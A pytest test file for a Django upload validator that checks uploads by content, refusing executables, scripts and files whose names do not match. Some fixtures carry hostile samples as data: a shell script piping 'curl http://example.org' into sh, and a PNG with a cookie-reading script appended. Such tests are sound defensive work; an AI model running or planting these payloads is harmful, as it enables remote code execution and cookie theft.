import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from mira.documents.samples import tiny_pdf, tiny_png
from mira.documents.tests.factories import jpeg_bytes
from mira.documents.validation import validate_upload

# The start of a Windows executable and of a shell script: what someone might rename to .pdf.
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
NOT_ALLOWED = (
    "Only PDF, JPEG and PNG files can be uploaded. The content of this file is none of these, whatever its name says."
)


def _error(name: str, content: bytes) -> str:
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        validate_upload(SimpleUploadedFile(name, content))
    return caught.value.messages[0]


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("Pass.pdf", tiny_pdf(), "application/pdf"),
        ("PASS.PDF", tiny_pdf(), "application/pdf"),
        ("Zeugnis.jpg", jpeg_bytes(), "image/jpeg"),
        ("Zeugnis.jpeg", jpeg_bytes(), "image/jpeg"),
        ("Foto.png", tiny_png(), "image/png"),
    ],
)
def test_validate_upload_accepts_pdf_jpeg_png(name, content, expected):
    assert validate_upload(SimpleUploadedFile(name, content)) == expected


def test_validate_upload_leaves_the_file_at_its_start():
    upload = SimpleUploadedFile("Foto.png", tiny_png())
    validate_upload(upload)
    assert upload.read() == tiny_png()


def test_validate_upload_executable_renamed_to_pdf_is_refused():
    assert _error("Rechnung.pdf", EXECUTABLE) == NOT_ALLOWED


def test_validate_upload_shell_script_renamed_to_pdf_is_refused():
    assert _error("Bescheid.pdf", b"#!/bin/sh\ncurl http://example.org | sh\n") == NOT_ALLOWED


def test_validate_upload_html_renamed_to_png_is_refused():
    assert _error("Foto.png", b"<!DOCTYPE html><html><script>alert(1)</script></html>") == NOT_ALLOWED


def test_validate_upload_pdf_marker_without_header_is_refused():
    # filetype recognises "%PDF" alone; a real PDF starts with "%PDF-" and a version.
    assert _error("Brief.pdf", b"%PDF<script>alert(1)</script>") == NOT_ALLOWED


def test_validate_upload_pdf_named_png_is_refused():
    assert _error("Scan.png", tiny_pdf()) == (
        "The file name “Scan.png” does not match the content: this is a PDF file, so the name must end in .pdf."
    )


def test_validate_upload_png_named_pdf_is_refused():
    assert _error("Scan.pdf", tiny_png()) == (
        "The file name “Scan.pdf” does not match the content: this is a PNG file, so the name must end in .png."
    )


def test_validate_upload_jpeg_without_ending_is_refused():
    assert _error("Scan", jpeg_bytes()) == (
        "The file name “Scan” does not match the content: this is a JPEG file, so the name must end in .jpg / .jpeg."
    )


def test_validate_upload_png_with_trailing_script_is_refused():
    polyglot = tiny_png() + b"<script>alert(document.cookie)</script>"
    assert _error("Foto.png", polyglot) == (
        "This PNG image has additional data after its end, which can hide other content. "
        "Save the image again as a new PNG file and upload that."
    )


def test_validate_upload_jpeg_with_trailing_data_is_accepted():
    # Cameras and phones write data after the end marker; served as a download with nosniff it is harmless.
    assert validate_upload(SimpleUploadedFile("Foto.jpg", jpeg_bytes() + b"SEFH trailer")) == "image/jpeg"


def test_validate_upload_empty_file_is_refused():
    assert _error("leer.pdf", b"") == "The file is empty. Choose the file again."


def test_validate_upload_over_the_limit_names_the_limit(settings):
    settings.MIRA_UPLOAD_MAX_BYTES = 1024 * 1024
    content = tiny_pdf() + b"%" * (1024 * 1024 + 512 * 1024)
    assert _error("gross.pdf", content) == "The file is too large (1.5 MB). Files may be at most 1 MB."


def test_validate_upload_at_the_limit_is_accepted(settings):
    settings.MIRA_UPLOAD_MAX_BYTES = len(tiny_pdf())
    assert validate_upload(SimpleUploadedFile("genau.pdf", tiny_pdf())) == "application/pdf"


def test_validate_upload_limit_message_in_german(settings):
    settings.MIRA_UPLOAD_MAX_BYTES = 10 * 1024 * 1024
    upload = SimpleUploadedFile("gross.pdf", tiny_pdf() + b"%" * (11 * 1024 * 1024))
    with translation.override("de"), pytest.raises(ValidationError) as caught:
        validate_upload(upload)
    assert caught.value.messages == ["Die Datei ist zu groß (11 MB). Erlaubt sind höchstens 10 MB."]
